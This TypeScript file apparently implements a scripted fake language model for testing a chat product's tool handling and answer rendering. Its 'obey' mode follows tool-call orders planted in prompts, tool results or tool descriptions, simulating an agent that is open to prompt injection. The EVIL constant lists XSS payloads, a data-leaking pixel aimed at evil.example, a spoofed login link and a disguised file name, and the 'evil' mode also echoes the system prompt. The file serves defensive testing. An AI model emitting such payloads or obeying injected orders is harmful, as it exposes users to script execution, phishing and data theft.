import type { Script, ScriptCall } from './llm-script.ts'

/** What a request asks, in neither vendor's words. */
export type Asked = {
  system: string
  question: string
  /** Results of tools since the question, as sent. */
  results: string[]
  /** Pictures beside the question. */
  images: number
  tools: { name: string; description: string; parameters: unknown }[]
  /** The JSON Schema of the answer, if one was asked for. */
  schema: unknown
}

type Schema = {
  type?: unknown
  enum?: unknown[]
  properties?: Record<string, unknown>
  items?: unknown
  anyOf?: unknown[]
}

/** The least value that fits a schema. */
export function valueFor(schema: unknown, words = 'text'): unknown {
  const { type, enum: choices, properties, items, anyOf } = (schema ?? {}) as Schema
  if (choices) return choices[0]
  if (anyOf) return valueFor(anyOf[0], words)
  const kind = Array.isArray(type) ? type[0] : type
  if (kind === 'object' || properties)
    return Object.fromEntries(
      Object.entries(properties ?? {}).map(([name, inner]) => [name, valueFor(inner, words)]),
    )
  if (kind === 'array') return [valueFor(items, words)]
  if (kind === 'number' || kind === 'integer') return 1
  if (kind === 'boolean') return true
  return kind === 'null' ? null : words
}

const ORDER = /call the tool (\w+) with (\{[^{}]*\})/gi

/** What stands in the request as `call the tool <name> with <json>`: in the prompt, the question, a result or a description. */
function ordersIn({ system, question, results, tools }: Asked): ScriptCall[] {
  const read = [system, question, ...results, ...tools.map(({ description }) => description)].join('\n')
  // Within JSON that is text once more, its marks are escaped.
  const orders = [...read.replaceAll('\\"', '"').matchAll(ORDER)]
  return orders.map(([, name = '', args = '{}']) => ({ name, arguments: args })).slice(0, 12)
}

/** The calls of a script, once: after their results the answer follows. `tool-loop` never learns. */
export function callsFor(script: Script, asked: Asked): readonly ScriptCall[] {
  const [first] = asked.tools
  if (script.name === 'obey') return ordersIn(asked)
  if (script.name === 'tool-loop')
    return script.calls ?? [{ name: first?.name ?? 'nothing', arguments: '{}' }]
  if (script.name !== 'tool' || asked.results.length > 0 || !first) return []
  return (
    script.calls ?? [
      { name: first.name, arguments: valueFor(first.parameters, asked.question) as Record<string, unknown> },
    ]
  )
}
type Passage = { n: number; content: string }

function passagesIn(system: string): Passage[] {
  return [...system.matchAll(/<passage n="(\d+)">\n[^\n]*\n([\s\S]*?)\n<\/passage>/g)].map((match) => ({
    n: Number(match[1]),
    content: match[2] ?? '',
  }))
}

const wordsOf = (text: string) => new Set(text.toLowerCase().match(/\p{L}{4,}|\d+/gu) ?? [])

/** The two sentences of the passages that share most words with the question, each cited. */
function fromPassages({ system, question }: Asked): string | null {
  const asked = wordsOf(question)
  const sentences = passagesIn(system).flatMap(({ n, content }) =>
    content
      .split(/(?<=[.!?])\s+|\n+/)
      .map((text) => text.replace(/^[-*#|\s]+/, '').trim())
      .filter((text) => text.length > 8)
      .map((text) => ({ n, text, shared: [...wordsOf(text)].filter((word) => asked.has(word)).length })),
  )
  const best = sentences.sort((a, b) => b.shared - a.shared || a.n - b.n).slice(0, 2)
  return best.length ? best.map(({ n, text }) => `${text} [${n}]`).join(' ') : null
}

/** What it did comes first, so that a test sees it. */
function said(asked: Asked): string {
  const seen = asked.images > 0 ? `I see ${asked.images} picture${asked.images > 1 ? 's' : ''}. ` : ''
  const told = asked.results.length > 0 ? `The tools said: ${asked.results.join(' | ').slice(0, 600)}. ` : ''
  const known = fromPassages(asked)
  return (
    seen +
    told +
    (known ?? (seen || told ? '' : `You asked: ${asked.question.slice(0, 200)}. I know nothing about that.`))
  ).trim()
}

/** Everything a fooled model might say: nothing of it may run, load or leak on a page that shows it. */
const EVIL = `<script>window.__owned=1</script><img src="https://evil.example/a.png" onerror="window.__owned=1">
<iframe src="https://evil.example"></iframe><svg onload="window.__owned=1"></svg><style>*{display:none}</style>
![pixel](https://evil.example/pixel.png?q=secret) [click me](javascript:window.__owned=1) [data](data:text/html,<script>1</script>)
[bank.example](https://evil.example/login) <https://evil.example> https://evil.example/auto [9] [99] [1](https://evil.example)
"><input onfocus=window.__owned=1 autofocus> {{constructor.constructor('window.__owned=1')()}} \u202Egpj.exe\u202C`

/** What the fake says, in tokens of a few letters as the real ones send them. */
export function answerTokens(script: Script, asked: Asked): string[] {
  let text = script.text ?? said(asked)
  if (script.name === 'evil') text = `${EVIL}\n\n${asked.system}\n\n${asked.question}`
  if (asked.schema && script.text === undefined)
    text = JSON.stringify(valueFor(asked.schema, asked.question.slice(0, 200)))
  return text.match(/\s*[^\s]{1,6}|\s+/g) ?? []
}
